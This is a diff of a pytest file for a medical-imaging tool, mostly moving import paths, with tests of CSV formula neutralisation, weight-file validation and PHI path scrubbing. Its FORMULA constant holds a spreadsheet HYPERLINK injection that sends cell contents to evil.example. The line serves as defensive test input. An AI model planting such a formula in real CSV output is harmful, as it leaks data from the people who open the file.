@@ -20,11 +20,11 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner
 
-from medadapt.engine.atomic import atomic_file, atomic_folder, remove_abandoned
 from medadapt.engine.cli import cli
-from medadapt.engine.errors import ExitCode
-from medadapt.engine.output import csv_cell, csv_row
-from medadapt.engine.plugins import get_plugin_host
+from medadapt.engine.contracts.errors import ExitCode
+from medadapt.engine.contracts.host import get_plugin_host
+from medadapt.engine.output.atomic import atomic_file, atomic_folder, remove_abandoned
+from medadapt.engine.output.text import csv_cell, csv_row
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
 
@@ -74,9 +74,9 @@ def test_numbers_and_plain_text_stay_as_they_are_in_csv():
 def test_predictions_csv_neutralises_a_formula_in_a_dicom_attribute(tmp_path):
     import numpy as np
 
-    from medadapt.engine.components import SampleRecord, Split
-    from medadapt.engine.evaluate import Predictions
-    from medadapt.engine.validate import _write_predictions
+    from medadapt.engine.contracts.components import SampleRecord, Split
+    from medadapt.engine.validation.evaluate import Predictions
+    from medadapt.engine.validation.job import _write_predictions
 
     record = SampleRecord("patient-1", "series-1", "", {"manufacturer": FORMULA}, "benign")
     made = Predictions(np.array([0.25]), np.array([0]), ["patient-1"], [record])
@@ -91,7 +91,7 @@ def test_predictions_csv_neutralises_a_formula_in_a_dicom_attribute(tmp_path):
 
 
 def test_a_dollar_in_a_site_name_is_drawn_as_it_is_not_read_as_mathtext(tmp_path):
-    from medadapt.engine.output import pyplot
+    from medadapt.engine.output.text import pyplot
 
     plt = pyplot()
     figure, axis = plt.subplots()
@@ -130,8 +130,8 @@ def test_export_never_writes_over_the_model_it_is_made_from(tmp_path, model, ins
     "content", [b"hello world\n", b"e" * 100, b"PK\x03\x04not a zip", b"\x80\x02}q\x00."]
 )
 def test_a_bundle_whose_weights_are_not_weights_is_refused_by_file(tmp_path, content):
-    from medadapt.engine.errors import InvalidInputError
-    from medadapt.engine.weights import load_weights_file
+    from medadapt.engine.contracts.errors import InvalidInputError
+    from medadapt.engine.models.weights import load_weights_file
 
     path = tmp_path / "model.pt"
     path.write_bytes(content)
@@ -217,7 +217,7 @@ def test_a_temporary_left_by_a_killed_export_is_cleaned_by_the_next_export(tmp_p
     script = (
         "import sys, time\n"
         "from pathlib import Path\n"
-        "from medadapt.engine.atomic import atomic_file\n"
+        "from medadapt.engine.output.atomic import atomic_file\n"
         "with atomic_file(Path(sys.argv[1])) as t:\n"
         "    t.write_bytes(b'half'); print('writing', flush=True); time.sleep(60)\n"
     )
@@ -334,8 +334,8 @@ def test_a_series_of_1_by_1_pixels_is_listed_as_unusable_with_the_reason(ct):
 def test_a_series_too_small_for_the_profiles_patch_is_not_used_and_says_why(
     ct, site_key, write_profile, mode, size, slices, refused
 ):
+    from medadapt.engine.data.samples import open_site_data
     from medadapt.engine.profile import load_profile
-    from medadapt.engine.samples import open_site_data
 
     ct.series("small", slices=slices)
     path = write_profile(
@@ -380,7 +380,7 @@ def export(tmp_path) -> Path:
 
 
 def test_paths_inside_a_data_folder_reach_persistent_text_by_pseudonym_only(export):
-    from medadapt.engine.pseudonym import PathScrubber, Pseudonymizer
+    from medadapt.engine.data.pseudonym import PathScrubber, Pseudonymizer
 
     scrub = PathScrubber(Pseudonymizer("a-site-secret-for-this-test-only"))
     scrub.add(export, keep=[export / "labels.csv"])
@@ -407,8 +407,8 @@ def test_json_and_job_logs_written_after_a_site_is_opened_hold_no_data_path(expo
     import logging
 
     from medadapt.engine.batch import _job_log
-    from medadapt.engine.model import write_json_atomic
-    from medadapt.engine.pseudonym import data_paths
+    from medadapt.engine.data.pseudonym import data_paths
+    from medadapt.engine.models.model import write_json_atomic
 
     data_paths.add(export)
     file = export / "DOE^JANE 0042-PHI" / "CT CHEST" / "IM0001.dcm"
@@ -451,8 +451,8 @@ def test_a_phantom_folder_whose_settings_file_is_damaged_is_refused_by_name(tmp_
 
 
 def test_a_demo_folder_whose_marker_is_damaged_is_refused_by_name(tmp_path):
+    from medadapt.engine.contracts.errors import InvalidInputError
     from medadapt.engine.demo import _claim
-    from medadapt.engine.errors import InvalidInputError
 
     (tmp_path / "medadapt-demo.json").write_bytes(b"\x00\xff")
     with pytest.raises(InvalidInputError, match=r"medadapt-demo\.json: not a demo's marker"):
@@ -490,9 +490,9 @@ def test_control_characters_in_a_header_never_reach_the_terminal_or_the_records(
 def test_labels_outside_the_tasks_classes_are_refused_by_every_job_not_left_out(
     ct, site_key, write_profile, tmp_path
 ):
-    from medadapt.engine.errors import InvalidInputError
+    from medadapt.engine.contracts.errors import InvalidInputError
+    from medadapt.engine.data.samples import open_site_data
     from medadapt.engine.profile import load_profile
-    from medadapt.engine.samples import open_site_data
 
     ct.series("a", slices=6, patient_id="MRN-0042-PHI")
     ct.series("b", slices=6, patient_id="MRN-0077-PHI", seed=5)
